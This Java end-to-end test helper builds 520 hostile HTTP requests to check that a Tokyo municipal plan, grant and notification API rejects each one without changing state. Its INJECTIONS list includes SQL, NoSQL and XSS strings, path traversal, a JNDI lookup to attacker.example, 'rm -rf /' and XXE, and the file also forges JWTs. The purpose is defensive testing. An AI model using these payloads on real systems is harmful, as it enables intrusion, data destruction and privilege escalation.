package jp.tokyo.monozukuri.endtoend.support;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import jp.tokyo.monozukuri.localstack.StackEndpoints;
import jp.tokyo.monozukuri.localstack.scenario.Actor;
import jp.tokyo.monozukuri.localstack.scenario.StackApi;

/**
 * 500 requests a portal would never send and an attacker might: no or forged tokens, roles that may not act,
 * other municipalities' ids, wrong types, huge and deeply nested bodies, fields the APIs do not know, codes that are
 * not Tokyo's, injection strings, wrong methods and media types, and steps out of order. Every one of them must be
 * answered 4xx, as a problem, and change nothing.
 */
public final class HostileRequests {

    /** Issue 14 item 3 (and item 1's refusal of a decided plan's withdrawal): see {@link #roleMixesAndDuties()}. */
    static final int ROLE_MIXES_AND_DUTIES = 20;
    public static final int COUNT = 500 + ROLE_MIXES_AND_DUTIES;

    /** One request, exactly as sent. */
    public record Hostile(String category, String method, URI service, String path, Map<String, String> headers,
            byte[] body) {

        @Override
        public String toString() {
            return category + ": " + method + " " + path;
        }
    }

    /**
     * What the requests aim at: municipality A's approved plan, its review, its grant (years far ahead, so nothing
     * can be applied for) and one of its notices; B and the others are other municipalities.
     */
    public record Targets(String codeA, String planA, String reviewA, String grantA, String noticeA,
            int grantFiscalYear, String codeB, List<String> foreignCodes) {
    }

    /** Strings that have broken systems before, none of them a valid value where they are put. */
    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE plans;--", "{\"$gt\": \"\"}", "{\"$ne\": null}",
            "this.status == 'APPROVED' || '1'=='1'", "<script>alert('承認')</script>", "../../../../etc/passwd",
            "..%2F..%2F..%2Fetc%2Fpasswd", "%00", "\u0000", "${jndi:ldap://attacker.example/a}", "#{7*7}",
            "{{7*7}}", "`rm -rf /`", "\u202Eexe.txt", "ＡＤＭＩＮ", "x".repeat(10_000), "\uD800", "null",
            "🏭".repeat(100), "131091\r\nX-Injected: 1", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">");

    private final StackEndpoints endpoints;
    private final Function<Actor, String> bearer;
    private final Targets t;
    private final List<Hostile> requests = new ArrayList<>();

    private HostileRequests(StackEndpoints endpoints, Function<Actor, String> bearer, Targets targets) {
        this.endpoints = endpoints;
        this.bearer = bearer;
        this.t = targets;
    }

    public static List<Hostile> build(StackApi api, Targets targets) {
        return build(api.endpoints(), api::bearer, targets);
    }

    /** @param bearer the {@code Authorization} value for an actor */
    static List<Hostile> build(StackEndpoints endpoints, Function<Actor, String> bearer, Targets targets) {
        HostileRequests build = new HostileRequests(endpoints, bearer, targets);
        build.authentication();
        build.roles();
        build.otherMunicipalities();
        build.wrongTypes();
        build.hugeBodies();
        build.unknownFields();
        build.badCodes();
        build.injections();
        build.methodsAndMediaTypes();
        build.stepsOutOfOrder();
        build.roleMixesAndDuties();
        if (build.requests.size() != COUNT) {
            throw new IllegalStateException("built " + build.requests.size() + " hostile requests, not " + COUNT);
        }
        return List.copyOf(build.requests);
    }

    /**
     * 20: separation of duties. Tokens that are the plan's municipality and Tokyo staff at once; the plan's own author
     * (its submitter's subject) holding a staff role; reassigning a review by anyone but an ADMIN or to nobody; and
     * withdrawing a plan Tokyo has already approved.
     */
    private void roleMixesAndDuties() {
        String author = officerA().subject();
        String review = "/api/reviews/" + t.reviewA();
        String planPath = "/api/plans/" + t.planA();
        Actor asReviewer = new Actor(author, List.of("MUNICIPALITY", "REVIEWER"), t.codeA());
        Actor asApprover = new Actor(author, List.of("MUNICIPALITY", "APPROVER"), t.codeA());
        Actor asAdmin = new Actor(author, List.of("MUNICIPALITY", "ADMIN"), t.codeA());
        add("role mix", "POST", plan(), "/api/plans", asReviewer, planBody(t.codeA(), ""));
        add("role mix", "POST", plan(), "/api/plans", asAdmin, planBody(t.codeA(), ""));
        add("role mix", "PUT", plan(), planPath, asReviewer, planBody(t.codeA(), ""));
        add("role mix", "POST", plan(), planPath + "/withdraw", asApprover, "{\"reason\":\"取下げ\"}");
        add("role mix", "POST", approval(), review + "/start", asReviewer, null);
        add("role mix", "POST", approval(), review + "/comments", asReviewer, "{\"text\":\"自分の計画\"}");
        add("role mix", "POST", approval(), review + "/approve", asApprover, null);
        add("role mix", "POST", approval(), review + "/reviewer", asAdmin, "{\"reviewer\":\"" + author + "\"}");
        add("separation of duties", "POST", approval(), review + "/start", Actor.reviewer(author), null);
        add("separation of duties", "POST", approval(), review + "/recommend", Actor.reviewer(author), "{}");
        add("separation of duties", "POST", approval(), review + "/approve", Actor.approver(author), null);
        add("separation of duties", "POST", approval(), review + "/reject", Actor.approver(author),
                "{\"reasons\":[\"不備\"]}");
        add("separation of duties", "POST", approval(), review + "/reviewer", REVIEWER,
                "{\"reviewer\":\"e2e-hostile-reviewer\"}");
        add("separation of duties", "POST", approval(), review + "/reviewer", APPROVER,
                "{\"reviewer\":\"e2e-hostile-reviewer\"}");
        add("separation of duties", "POST", approval(), review + "/reviewer", officerA(),
                "{\"reviewer\":\"e2e-hostile-reviewer\"}");
        add("separation of duties", "POST", approval(), review + "/reviewer", ADMIN, "{\"reviewer\":\"\"}");
        add("separation of duties", "POST", approval(), review + "/reviewer", ADMIN, "{}");
        add("separation of duties", "POST", approval(), "/api/reviews/no-such-review/reviewer", ADMIN,
                "{\"reviewer\":\"e2e-hostile-reviewer\"}");
        add("withdrawal of a decided plan", "POST", plan(), planPath + "/withdraw", officerA(), null);
        add("withdrawal of a decided plan", "POST", plan(), planPath + "/withdraw", officerA(),
                "{\"reason\":\"承認後の取下げ\"}");
    }

    private URI plan() {
        return endpoints.plan();
    }

    private URI approval() {
        return endpoints.approval();
    }

    private URI grant() {
        return endpoints.grant();
    }

    private URI notification() {
        return endpoints.notification();
    }

    private Actor officerA() {
        return Actor.municipality(t.codeA(), "e2e-officer-" + t.codeA());
    }

    private static final Actor REVIEWER = Actor.reviewer("e2e-hostile-reviewer");
    private static final Actor APPROVER = Actor.approver("e2e-hostile-approver");
    private static final Actor ADMIN = Actor.admin("e2e-hostile-admin");

    private void add(String category, String method, URI service, String path, Actor actor, String json) {
        Map<String, String> headers = new LinkedHashMap<>();
        if (actor != null) {
            headers.put("Authorization", bearer.apply(actor));
        }
        if (json != null) {
            headers.put("Content-Type", "application/json");
        }
        requests.add(new Hostile(category, method, service, path, headers,
                json == null ? null : json.getBytes(StandardCharsets.UTF_8)));
    }

    private void raw(String category, String method, URI service, String path, Map<String, String> headers,
            byte[] body) {
        requests.add(new Hostile(category, method, service, path, Map.copyOf(headers), body));
    }

    /** 50: no token, garbage, Basic, an unsigned JWT, a JWT signed by a key nobody trusts, on ten endpoints. */
    private void authentication() {
        String unsigned = base64("{\"alg\":\"none\"}") + "." + base64("{\"sub\":\"x\",\"roles\":[\"ADMIN\"]}") + ".";
        List<String> forged = List.of("Bearer not.a.jwt", "Basic YWRtaW46YWRtaW4=", "Bearer " + unsigned,
                "Bearer " + signedByStranger());
        List<String[]> endpoints = List.of(
                new String[] {"GET", "plan", "/api/plans"}, new String[] {"GET", "plan", "/api/plans/" + t.planA()},
                new String[] {"POST", "plan", "/api/plans"}, new String[] {"GET", "approval", "/api/reviews"},
                new String[] {"POST", "approval", "/api/reviews/" + t.reviewA() + "/approve"},
                new String[] {"GET", "grant", "/api/grants"}, new String[] {"POST", "grant", "/api/budget-resolutions"},
                new String[] {"GET", "notification", "/api/notifications"},
                new String[] {"PUT", "notification", "/api/recipients/" + t.codeA()},
                new String[] {"POST", "notification", "/api/notifications/" + t.noticeA() + "/resend"});
        for (String[] endpoint : endpoints) {
            URI service = service(endpoint[1]);
            byte[] body = endpoint[0].equals("GET") ? null : "{}".getBytes(StandardCharsets.UTF_8);
            Map<String, String> json = body == null ? Map.of() : Map.of("Content-Type", "application/json");
            raw("no token", endpoint[0], service, endpoint[2], json, body);
            for (String authorization : forged) {
                Map<String, String> headers = new LinkedHashMap<>(json);
                headers.put("Authorization", authorization);
                raw("forged token", endpoint[0], service, endpoint[2], headers, body);
            }
        }
    }

    /** 30: roles that may not take the step. */
    private void roles() {
        Actor officerB = Actor.municipality(t.codeB(), "e2e-officer-" + t.codeB());
        String review = "/api/reviews/" + t.reviewA();
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        for (Actor officer : List.of(officerA(), officerB)) {
            add("wrong role", "POST", approval(), review + "/start", officer, null);
            add("wrong role", "POST", approval(), review + "/recommend", officer, "{}");
            add("wrong role", "POST", approval(), review + "/approve", officer, null);
            add("wrong role", "POST", approval(), review + "/reject", officer, "{\"reasons\":[\"不備\"]}");
            add("wrong role", "POST", approval(), "/api/approval-rounds", officer,
                    "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":[\"" + t.reviewA() + "\"]}");
            add("wrong role", "GET", approval(), "/api/approval-rounds", officer, null);
            add("wrong role", "POST", grant(), "/api/budget-resolutions", officer, budget("METROPOLITAN", null));
            add("wrong role", "POST", grant(), year + "/decision", officer, "{\"amountYen\":1000}");
            add("wrong role", "GET", grant(), "/api/grants/summary?fiscalYear=2014", officer, null);
            add("wrong role", "PUT", notification(), "/api/recipients/" + officer.municipalityCode(), officer,
                    "{\"addresses\":[\"intruder@example.jp\"]}");
            add("wrong role", "POST", notification(), "/api/notifications/" + t.noticeA() + "/resend", officer, null);
        }
        add("wrong role", "POST", plan(), "/api/plans", REVIEWER, planBody(t.codeA(), ""));
        add("wrong role", "POST", approval(), review + "/approve", REVIEWER, null);
        add("wrong role", "POST", plan(), "/api/plans/" + t.planA() + "/submit", APPROVER, null);
        add("wrong role", "POST", approval(), review + "/start", APPROVER, null);
        add("wrong role", "POST", grant(), year + "/application", APPROVER, application(""));
        add("wrong role", "POST", grant(), year + "/report", REVIEWER, "{\"actualCostYen\":0,"
                + "\"eligibleActualCostYen\":0,\"otherRevenueYen\":0}");
        add("wrong role", "POST", grant(), "/api/budget-resolutions", REVIEWER, budget("METROPOLITAN", null));
        add("wrong role", "PUT", notification(), "/api/recipients/" + t.codeA(), APPROVER,
                "{\"addresses\":[\"intruder@example.jp\"]}");
    }

    /** 39: a municipality reaching for another's plan, review, grant, notice and recipients — all "not found". */
    private void otherMunicipalities() {
        for (String code : t.foreignCodes().subList(0, 3)) {
            Actor other = Actor.municipality(code, "e2e-officer-" + code);
            String planPath = "/api/plans/" + t.planA();
            String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
            add("other municipality's id", "GET", plan(), planPath, other, null);
            add("other municipality's id", "PUT", plan(), planPath, other, planBody(code, ""));
            add("other municipality's id", "POST", plan(), planPath + "/submit", other, null);
            add("other municipality's id", "POST", plan(), planPath + "/withdraw", other, "{\"reason\":\"取下げ\"}");
            add("other municipality's id", "GET", plan(), planPath + "/revisions", other, null);
            add("other municipality's id", "GET", plan(), planPath + "/revisions/1", other, null);
            add("other municipality's id", "GET", approval(), planPath + "/reviews", other, null);
            add("other municipality's id", "GET", approval(), "/api/reviews/" + t.reviewA(), other, null);
            add("other municipality's id", "GET", grant(), "/api/grants/" + t.grantA(), other, null);
            add("other municipality's id", "POST", grant(), year + "/application", other, application(""));
            add("other municipality's id", "POST", grant(), year + "/report", other, "{\"actualCostYen\":0,"
                    + "\"eligibleActualCostYen\":0,\"otherRevenueYen\":0}");
            add("other municipality's id", "GET", notification(), "/api/notifications/" + t.noticeA(), other, null);
            add("other municipality's id", "GET", notification(), "/api/recipients/" + t.codeA(), other, null);
        }
    }

    /** 60: values of the wrong JSON type, impossible dates and numbers, and query parameters out of range. */
    private void wrongTypes() {
        List<String> planFields = List.of("\"startFiscalYear\":\"二〇一四\"", "\"startFiscalYear\":true",
                "\"startFiscalYear\":[2014]", "\"startFiscalYear\":{\"y\":2014}", "\"startFiscalYear\":2014.5",
                "\"startFiscalYear\":1e400", "\"measures\":\"企業立地\"", "\"measures\":42", "\"measures\":[1]",
                "\"measures\":[{\"title\":{\"ja\":\"x\"},\"projects\":\"x\"}]", "\"contact\":\"03-0000-0000\"",
                "\"figures\":{\"a\":1}", "\"endFiscalYear\":-2016", "\"startFiscalYear\":99999999999",
                "\"measures\":[{\"title\":\"x\",\"projects\":[{\"name\":\"y\",\"plannedCosts\":"
                        + "[{\"fiscalYear\":2040,\"amountYen\":\"many\"}]}]}]");
        for (String field : planFields) {
            add("wrong type", "POST", plan(), "/api/plans", officerA(), planBody(t.codeA(), field));
        }
        List<String> budgetFields = List.of("\"fiscalYear\":\"x\"", "\"fiscalYear\":1999", "\"assembly\":\"CITY\"",
                "\"resolutionDate\":\"13/03/2014\"", "\"resolutionDate\":\"2014-02-30\"",
                "\"budgetedAmountYen\":\"lots\"", "\"budgetedAmountYen\":-5", "\"budgetedAmountYen\":1e30",
                "\"budgetedAmountYen\":0", "\"assembly\":null");
        for (String field : budgetFields) {
            add("wrong type", "POST", grant(), "/api/budget-resolutions", APPROVER, budgetWith(field));
        }
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        for (String body : List.of("{\"eligibleCostYen\":\"abc\"}", "{\"requestedAmountYen\":[1]}",
                "{\"breakdown\":\"all\"}", "{\"applicationDate\":\"tomorrow\"}", "{\"eligibleCostYen\":-1}")) {
            add("wrong type", "POST", grant(), year + "/application", officerA(), body);
        }
        String review = "/api/reviews/" + t.reviewA();
        for (String body : List.of("{\"reasons\":\"不備\"}", "{\"reasons\":[]}", "{\"reasons\":[\"\"]}",
                "{\"reasons\":null}", "{\"reasons\":[{\"text\":\"x\"}]}")) {
            add("wrong type", "POST", approval(), review + "/return", REVIEWER, body);
        }
        for (String body : List.of("{\"announcementDate\":\"yesterday\",\"reviewIds\":[\"" + t.reviewA() + "\"]}",
                "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":\"" + t.reviewA() + "\"}",
                "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":[]}")) {
            add("wrong type", "POST", approval(), "/api/approval-rounds", APPROVER, body);
        }
        for (String body : List.of("{\"addresses\":\"a@example.jp\"}", "{\"addresses\":[1]}",
                "{\"addresses\":[\"not-an-address\"]}", "{\"addresses\":[\"a@b@c\"]}")) {
            add("wrong type", "PUT", notification(), "/api/recipients/" + t.codeA(), ADMIN, body);
        }
        for (String query : List.of("page=-1", "size=0", "size=100000", "page=abc", "status=NOPE", "fiscalYear=abc",
                "fiscalYear=99999", "size=1.5")) {
            add("wrong type", "GET", grant(), "/api/grants?" + query, APPROVER, null);
        }
        for (String query : List.of("page=-1", "size=0", "size=101", "status=NOPE", "eventType=plan.exploded")) {
            add("wrong type", "GET", notification(), "/api/notifications?" + query, ADMIN, null);
        }
        for (String query : List.of("page=-1", "page=x", "size=1000", "status=LOST", "municipalityCode=13109")) {
            add("wrong type", "GET", approval(), "/api/reviews?" + query, REVIEWER, null);
        }
    }

    /** 20: bodies of megabytes, thousands of elements, nesting thousands deep, numbers of a million digits. */
    private void hugeBodies() {
        add("huge body", "POST", plan(), "/api/plans", officerA(),
                planBody(t.codeA(), "\"title\":\"" + "計".repeat(1_000_000) + "\""));
        add("huge body", "POST", plan(), "/api/plans", officerA(),
                planBody(t.codeA(), "\"summary\":\"" + "要".repeat(3_000_000) + "\""));
        StringBuilder measures = new StringBuilder("\"measures\":[");
        for (int i = 0; i < 5_000; i++) {
            measures.append(i == 0 ? "" : ",").append("{\"title\":\"施策").append(i).append("\",\"projects\":[]}");
        }
        add("huge body", "POST", plan(), "/api/plans", officerA(), planBody(t.codeA(), measures.append(']').toString()));
        add("huge body", "POST", plan(), "/api/plans", officerA(),
                planBody(t.codeA(), "\"figures\":[" + "\"図\",".repeat(100_000) + "\"図\"]"));
        for (int depth : List.of(2_000, 20_000, 200_000)) {
            add("huge body", "POST", plan(), "/api/plans", officerA(), "[".repeat(depth) + "]".repeat(depth));
            add("huge body", "POST", grant(), "/api/budget-resolutions", APPROVER, "{\"a\":".repeat(depth) + "1"
                    + "}".repeat(depth));
        }
        add("huge body", "POST", grant(), "/api/budget-resolutions", APPROVER,
                budgetWith("\"budgetedAmountYen\":" + "9".repeat(1_000_000)));
        add("huge body", "POST", grant(), "/api/budget-resolutions", APPROVER,
                budgetWith("\"fiscalYear\":0." + "1".repeat(100_000)));
        add("huge body", "POST", approval(), "/api/reviews/" + t.reviewA() + "/return", REVIEWER,
                "{\"reasons\":[" + "\"不備\",".repeat(50_000) + "\"不備\"]}");
        add("huge body", "POST", approval(), "/api/reviews/" + t.reviewA() + "/comments", REVIEWER,
                "{\"text\":\"" + "注".repeat(2_000_000) + "\"}");
        add("huge body", "PUT", notification(), "/api/recipients/" + t.codeA(), ADMIN,
                "{\"addresses\":[" + "\"a@example.jp\",".repeat(200_000) + "\"not-an-address\"]}");
        add("huge body", "POST", grant(), "/api/budget-resolutions", APPROVER,
                budgetWith("\"resolutionDate\":\"" + "2".repeat(1_000_000) + "\""));
        add("huge body", "POST", approval(), "/api/approval-rounds", APPROVER,
                "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":[" + ("\"" + t.reviewA() + "\",").repeat(10_000)
                        + "\"x\"]}");
        add("huge body", "POST", plan(), "/api/plans", officerA(), " ".repeat(8_000_000));
        add("huge body", "POST", plan(), "/api/plans", officerA(), "{\"title\":\"" + "\\u0000".repeat(500_000) + "\"}");
        add("huge body", "POST", grant(), "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear() + "/application",
                officerA(), application(",\"breakdown\":[" + "{\"measureNumber\":1,\"projectName\":\"x\",\"eligibleCostYen\":1},"
                        .repeat(20_000) + "{\"measureNumber\":1,\"projectName\":\"x\",\"eligibleCostYen\":1}]"));
    }

    /** 40: a body the API would take, plus a field it does not know — it must not half-succeed. */
    private void unknownFields() {
        List<String> fields = List.of("\"status\":\"APPROVED\"", "\"id\":\"plan-chosen-by-client\"", "\"version\":0",
                "\"decision\":{\"approved\":true,\"documentNumber\":\"25産労商地第999号\"}", "\"createdBy\":\"admin\"",
                "\"__proto__\":{\"admin\":true}", "\"$where\":\"1\"", "\"revision\":9", "\"approved\":true",
                "\"municipalityCod\":\"131091\"");
        for (String field : fields) {
            add("unknown field", "POST", plan(), "/api/plans", officerA(), planBody(t.codeA(), field));
            add("unknown field", "POST", grant(), "/api/budget-resolutions", APPROVER,
                    withField(budget("MUNICIPAL", t.codeA()), field));
        }
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        for (String field : List.of("\"approvedAmountYen\":100000000", "\"status\":\"DECIDED\"",
                "\"decidedBy\":\"suzuki\"", "\"documentNumber\":\"26産労商地助第1号\"", "\"grantId\":\"x\"")) {
            add("unknown field", "POST", grant(), year + "/application", officerA(), application("," + field));
            add("unknown field", "PUT", notification(), "/api/recipients/" + t.codeA(), ADMIN,
                    "{\"addresses\":[\"" + PlanWave.mailboxOf(t.codeA()) + "\"]," + field + "}");
        }
        for (String field : List.of("\"approve\":true", "\"documentNumber\":\"25産労商地第1号\"",
                "\"decidedBy\":\"suzuki\"", "\"status\":\"APPROVED\"", "\"round\":\"x\"")) {
            add("unknown field", "POST", approval(), "/api/approval-rounds", APPROVER,
                    "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":[\"" + t.reviewA() + "\",\"" + t.reviewA()
                            + "\"]," + field + "}");
            add("unknown field", "POST", approval(), "/api/reviews/" + t.reviewA() + "/comments", REVIEWER,
                    "{\"text\":\"確認済み\"," + field + "}");
        }
    }

    /** 50: municipality codes that are not Tokyo's, or not codes at all. */
    private void badCodes() {
        // none of them valid even after trimming: a blank code would mean "my own" and a padded one is trimmed
        List<String> codes = List.of("131092", "271004", "13109", "1310911", "abcdef", "-131091", "13 1091", "131O91",
                "１３１０９１", "000000");
        for (String code : codes) {
            add("bad code", "POST", plan(), "/api/plans", officerA(), planBody(code, ""));
            add("bad code", "POST", grant(), "/api/budget-resolutions", APPROVER, budget("MUNICIPAL", code));
            add("bad code", "PUT", notification(), "/api/recipients/" + encode(code), ADMIN,
                    "{\"addresses\":[\"a@example.jp\"]}");
            add("bad code", "GET", notification(), "/api/notifications?municipalityCode=" + encode(code), ADMIN, null);
        }
        for (String code : t.foreignCodes()) {
            add("bad code", "POST", plan(), "/api/plans", officerA(), planBody(code, ""));
        }
    }

    /** 132: every injection string as an id in a path, a code in a query and an enum in a body. */
    private void injections() {
        for (String value : INJECTIONS) {
            String encoded = encode(value);
            add("injection", "GET", plan(), "/api/plans/" + encoded, officerA(), null);
            add("injection", "POST", approval(), "/api/reviews/" + encoded + "/approve", APPROVER, null);
            add("injection", "GET", grant(), "/api/grants/" + encoded, APPROVER, null);
            add("injection", "GET", notification(), "/api/notifications/" + encoded, ADMIN, null);
            add("injection", "GET", approval(), "/api/reviews?municipalityCode=" + encoded, REVIEWER, null);
            add("injection", "POST", grant(), "/api/budget-resolutions", APPROVER,
                    budgetWith("\"assembly\":" + jsonString(value)));
        }
    }

    /** 10: methods the APIs do not offer, bodies that are not JSON, answers nobody can give. */
    private void methodsAndMediaTypes() {
        String planPath = "/api/plans/" + t.planA();
        add("method or media type", "PATCH", plan(), planPath, officerA(), "{\"title\":\"x\"}");
        add("method or media type", "DELETE", plan(), planPath, officerA(), null);
        add("method or media type", "PUT", approval(), "/api/reviews/" + t.reviewA(), APPROVER, "{}");
        add("method or media type", "DELETE", grant(), "/api/grants/" + t.grantA(), ADMIN, null);
        Map<String, String> text = Map.of("Authorization", bearer.apply(officerA()), "Content-Type", "text/plain");
        raw("method or media type", "POST", plan(), "/api/plans", text, "title=x".getBytes(StandardCharsets.UTF_8));
        Map<String, String> xml = Map.of("Authorization", bearer.apply(officerA()), "Content-Type", "application/xml");
        raw("method or media type", "POST", plan(), "/api/plans", xml,
                "<plan><title>x</title></plan>".getBytes(StandardCharsets.UTF_8));
        Map<String, String> form = Map.of("Authorization", bearer.apply(officerA()),
                "Content-Type", "application/x-www-form-urlencoded");
        raw("method or media type", "POST", plan(), "/api/plans", form, "title=x".getBytes(StandardCharsets.UTF_8));
        raw("method or media type", "POST", plan(), "/api/plans",
                Map.of("Authorization", bearer.apply(officerA()), "Content-Type", "application/json"), new byte[0]);
        raw("method or media type", "GET", plan(), planPath,
                Map.of("Authorization", bearer.apply(officerA()), "Accept", "application/xml"), null);
        raw("method or media type", "GET", notification(), "/api/press-releases/" + t.planA(),
                Map.of("Accept", "image/png"), null);
    }

    /** 69: steps the state of the plan, review and grant does not allow. */
    private void stepsOutOfOrder() {
        String planPath = "/api/plans/" + t.planA();
        String review = "/api/reviews/" + t.reviewA();
        String year = "/api/grants/" + t.grantA() + "/years/" + t.grantFiscalYear();
        for (int round = 0; round < 3; round++) {
            add("step out of order", "POST", plan(), planPath + "/submit", officerA(), null);
            add("step out of order", "POST", plan(), planPath + "/withdraw", officerA(), "{\"reason\":\"取下げ\"}");
            add("step out of order", "PUT", plan(), planPath, officerA(), planBody(t.codeA(), ""));
            Map<String, String> stale = new LinkedHashMap<>(Map.of("Authorization", bearer.apply(officerA()),
                    "Content-Type", "application/json", "If-Match", "\"0\""));
            raw("step out of order", "PUT", plan(), planPath, stale,
                    planBody(t.codeA(), "").getBytes(StandardCharsets.UTF_8));
            add("step out of order", "POST", approval(), review + "/start", REVIEWER, null);
            add("step out of order", "POST", approval(), review + "/recommend", REVIEWER, "{}");
            add("step out of order", "POST", approval(), review + "/return", REVIEWER, "{\"reasons\":[\"再審査\"]}");
            add("step out of order", "POST", approval(), review + "/approve", APPROVER, null);
            add("step out of order", "POST", approval(), review + "/reject", APPROVER, "{\"reasons\":[\"不承認\"]}");
            add("step out of order", "POST", approval(), "/api/approval-rounds", APPROVER,
                    "{\"announcementDate\":\"2014-03-13\",\"reviewIds\":[\"" + t.reviewA() + "\",\"" + t.reviewA() + "\"]}");
            add("step out of order", "POST", approval(), "/api/approval-rounds", APPROVER,
                    "{\"announcementDate\":\"2000-01-01\",\"reviewIds\":[\"" + t.reviewA() + "\"]}");
            add("step out of order", "POST", grant(), year + "/application", officerA(), application(""));
            add("step out of order", "POST", grant(), year + "/decision", APPROVER, "{\"amountYen\":1000000}");
            add("step out of order", "POST", grant(), year + "/report", officerA(), "{\"actualCostYen\":1,"
                    + "\"eligibleActualCostYen\":1,\"otherRevenueYen\":0}");
            add("step out of order", "POST", grant(), year + "/confirmation", APPROVER, "{}");
            add("step out of order", "POST", grant(), year + "/payments", APPROVER, "{\"amountYen\":1000}");
            add("step out of order", "POST", grant(), year + "/refund", APPROVER, "{\"amountYen\":1000}");
            add("step out of order", "POST", grant(), year + "/closure", APPROVER, null);
            add("step out of order", "POST", grant(), "/api/grants/" + t.grantA() + "/years/1999/application",
                    officerA(), application(""));
            add("step out of order", "POST", plan(), "/api/plans/" + t.planA() + "/revisions/0", officerA(), null);
            add("step out of order", "GET", plan(), "/api/plans/" + t.planA() + "/revisions/99", officerA(), null);
            add("step out of order", "POST", approval(), "/api/approval-rounds/no-such-round/publish", APPROVER, null);
            add("step out of order", "POST", notification(), "/api/notifications/no-such-notice/resend", ADMIN, null);
        }
    }

    /** A whole plan of the wave's kind for {@code code}; {@code extra} replaces or adds one field. */
    private String planBody(String code, String extra) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("municipalityCode", jsonString(code));
        fields.put("title", jsonString("敵対的リクエスト試験計画"));
        fields.put("startFiscalYear", "2050");
        fields.put("endFiscalYear", "2052");
        fields.put("summary", jsonString("試験"));
        fields.put("measures", "[{\"title\":\"企業立地の促進\",\"projects\":[{\"name\":\"立地奨励金の交付\",\"plannedCosts\":"
                + "[{\"fiscalYear\":2050,\"amountYen\":1000000},{\"fiscalYear\":2051,\"amountYen\":1000000},"
                + "{\"fiscalYear\":2052,\"amountYen\":1000000}]}]}]");
        fields.put("figures", "[]");
        fields.put("contact", "{\"department\":\"産業振興課\",\"person\":\"担当\",\"email\":\"e2e@example.jp\","
                + "\"phone\":\"03-5320-4748\"}");
        return merge(fields, extra);
    }

    private String budget(String assembly, String code) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("fiscalYear", "2050");
        fields.put("assembly", jsonString(assembly));
        if (code != null) {
            fields.put("municipalityCode", jsonString(code));
        }
        fields.put("resolutionDate", "\"2050-03-20\"");
        fields.put("budgetedAmountYen", "1000000");
        return merge(fields, "");
    }

    /** A Metropolitan budget resolution for 2050 with one field replaced: never a valid one. */
    private String budgetWith(String field) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("fiscalYear", "2050");
        fields.put("assembly", "\"METROPOLITAN\"");
        fields.put("resolutionDate", "\"2050-03-20\"");
        fields.put("budgetedAmountYen", "1000000");
        return merge(fields, field);
    }

    /** The JSON object with one more field at its end. */
    private static String withField(String json, String field) {
        return json.substring(0, json.length() - 1) + "," + field + "}";
    }

    private static String application(String extra) {
        return "{\"applicationDate\":\"2040-04-10\",\"eligibleCostYen\":2000000,\"requestedAmountYen\":1000000,"
                + "\"breakdown\":[{\"measureNumber\":1,\"projectName\":\"立地奨励金の交付\",\"eligibleCostYen\":2000000}]"
                + extra + "}";
    }

    /** The fields as a JSON object, {@code extra} ({@code "name":value}) replacing a field of that name or added. */
    private static String merge(Map<String, String> fields, String extra) {
        Map<String, String> all = new LinkedHashMap<>(fields);
        String trailer = "";
        if (!extra.isEmpty()) {
            String name = extra.substring(1, extra.indexOf('"', 1));
            if (all.containsKey(name)) {
                all.put(name, extra.substring(extra.indexOf(':') + 1));
            } else {
                trailer = "," + extra;
            }
        }
        StringBuilder json = new StringBuilder("{");
        all.forEach((name, value) -> json.append(json.length() > 1 ? "," : "").append('"').append(name).append("\":")
                .append(value));
        return json.append(trailer).append('}').toString();
    }

    private URI service(String name) {
        return switch (name) {
            case "plan" -> plan();
            case "approval" -> approval();
            case "grant" -> grant();
            default -> notification();
        };
    }

    private static String jsonString(String value) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : value.toCharArray()) {
            switch (c) {
                case '"' -> json.append("\\\"");
                case '\\' -> json.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) {
                        json.append("\\u%04x".formatted((int) c));
                    } else {
                        json.append(c);
                    }
                }
            }
        }
        return json.append('"').toString();
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String base64(String json) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(json.getBytes(StandardCharsets.UTF_8));
    }

    /** A well-formed RS256 token with every role, signed by a key the services have never seen. */
    private static String signedByStranger() {
        try {
            RSAKey key = new RSAKeyGenerator(2048).keyID("stranger").generate();
            JWTClaimsSet claims = new JWTClaimsSet.Builder().subject("intruder").issuer("http://localhost:8090")
                    .claim("roles", List.of("ADMIN", "APPROVER", "REVIEWER")).issueTime(new Date())
                    .expirationTime(Date.from(Instant.now().plusSeconds(3600))).build();
            SignedJWT jwt = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID("stranger").build(), claims);
            jwt.sign(new RSASSASigner(key));
            return jwt.serialize();
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }
}
